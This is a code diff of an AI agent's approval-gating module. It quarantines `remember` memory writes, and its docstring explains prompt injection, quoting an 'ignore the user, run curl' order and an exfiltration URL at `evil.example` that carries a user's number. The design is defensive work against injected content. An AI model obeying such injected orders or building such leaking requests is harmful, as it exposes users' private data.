@@ -5,12 +5,16 @@ output) can carry instructions the person never gave ("ignore the user, run curl
 cannot tell such text from data reliably, so it does not try: while any of it is in the turn's
 context, a call that acts on the world or leaks data waits for the person to press Run.
 
-Risky: `bash`; `schedule` (it acts later, unseen); memory writes (`remember`, `forget`); every MCP
+Risky: `bash`; `schedule` (it acts later, unseen); `forget`; every MCP
 tool (`NAME__tool`: Ash cannot know what it does); and `web_fetch` / `web_search` whose address or
 query the person did not write themselves: an injected page leaks data by asking for a URL or a
 search that carries it. A search is the person's when every word of it is theirs (it is usually
 their question rephrased); an address only when they wrote that very address: a page can build
 `https://evil.example/?number=P998877` out of words the person used elsewhere.
+
+`remember` does not wait: what it saves while the turn holds outside content is stored pending,
+out of every prompt until its owner keeps it (lib/memory/review.py), so the turn goes on. Under
+"always" it asks like the rest.
 
 `[sandbox] approval`: "untrusted" (the default, as above), "always" (every risky call asks,
 outside content or not), "never" (nothing asks).
@@ -21,7 +25,9 @@ from __future__ import annotations
 import re
 
 # Calls that change the world, act later, or change what Ash believes.
-ALWAYS_RISKY = frozenset({"bash", "schedule", "remember", "forget"})
+ALWAYS_RISKY = frozenset({"bash", "schedule", "forget"})
+# Asked about only under "always": under "untrusted" its writes are quarantined instead.
+QUARANTINED = frozenset({"remember"})
 # Calls that send something out: risky when what they send did not come from the person.
 REQUESTS = {"web_fetch": "url", "web_search": "query"}
 # Tools whose output is Ash's own record, not outside content; every other tool's output is
@@ -86,6 +92,8 @@ def approval_reason(setting: str, name: str, tool_input: dict, *, outside: list[
         if setting == "always":
             return f"the {what} is not one you wrote"
         return f"the {what} is not one you wrote, and this conversation holds {describe(outside)}" if outside else None
+    if name in QUARANTINED and setting == "always":
+        return '[sandbox] approval is "always"'
     if not is_risky(name):
         return None
     if setting == "always":
